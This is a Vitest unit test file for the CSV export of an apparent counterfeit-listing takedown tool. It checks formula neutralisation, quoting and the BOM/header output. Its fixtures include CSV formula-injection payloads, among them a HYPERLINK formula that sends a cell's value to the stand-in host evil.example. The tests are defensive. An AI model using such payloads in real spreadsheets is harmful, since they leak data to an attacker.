import { describe, expect, it } from 'vitest';
import { makeRecord } from '../../test/unit/records.ts';
import { CSV_COLUMNS, csvRow, neutralise, requestsCsv } from './csv.ts';

/** A small RFC 4180 reader: what a spreadsheet sees in each cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

describe('CSV export', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and nothing else', () => {
    expect(neutralise('=HYPERLINK("https://evil.example","点击")')).toBe(`'=HYPERLINK("https://evil.example","点击")`);
    expect(neutralise('+1')).toBe("'+1");
    expect(neutralise('-2')).toBe("'-2");
    expect(neutralise('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(neutralise('\t=1')).toBe("'\t=1");
    expect(neutralise('\r=1')).toBe("'\r=1");
    expect(neutralise('Example 经典帆布双肩包 = 1+1')).toBe('Example 经典帆布双肩包 = 1+1');
    expect(neutralise('199.00')).toBe('199.00');
  });

  it('quotes every cell, doubles quotes and keeps commas and line breaks inside the cell', () => {
    expect(csvRow(['a "quoted" word', 'x,y', 'line1\nline2', null])).toBe('"a ""quoted"" word","x,y","line1\nline2",""\r\n');
  });

  it('writes a UTF-8 BOM, the header and one row per request, readable back cell for cell', () => {
    const hostile = makeRecord({
      listing: { itemId: '600000000777', title: '=HYPERLINK("https://evil.example/?"&A1,"Example 经典帆布双肩包")', seller: { name: '@SUM(1+1)', id: null, shopUrl: null }, price: { amount: '199.00', currency: 'CNY' } },
      caseId: 'TD-2026-000001',
      caseStatus: 'in_review',
      receivedAt: '2026-11-20T02:00:00.000Z',
      slaDueAt: '2026-11-21T02:00:00.000Z',
    });
    const plain = makeRecord({ listing: { title: 'Example 经典帆布双肩包, "官方" 正品', seller: { name: 'Example官方旗舰店', id: null, shopUrl: null } } });
    const text = requestsCsv([hostile, plain], { paused: false });
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows[1]).toEqual([
      hostile.clientRequestId,
      'taobao',
      '600000000777',
      `'=HYPERLINK("https://evil.example/?"&A1,"Example 经典帆布双肩包")`,
      "'@SUM(1+1)",
      '199.00',
      'CNY',
      hostile.listing.url,
      'counterfeit',
      'ipr_7781',
      'in_review',
      'TD-2026-000001',
      '2026-11-20T02:00:00.000Z',
      '2026-11-21T02:00:00.000Z',
      hostile.flaggedAt,
    ]);
    expect(rows[2]![3]).toBe('Example 经典帆布双肩包, "官方" 正品');
    expect(rows[2]![4]).toBe('Example官方旗舰店');
    expect(rows[2]![10]).toBe('queued');
    expect(rows).toHaveLength(3);
  });

  it('shows waiting requests as needing attention while the queue is paused, as the popup does', () => {
    const rows = parseCsv(requestsCsv([makeRecord()], { paused: true }).slice(1));
    expect(rows[1]![10]).toBe('attention');
  });
});
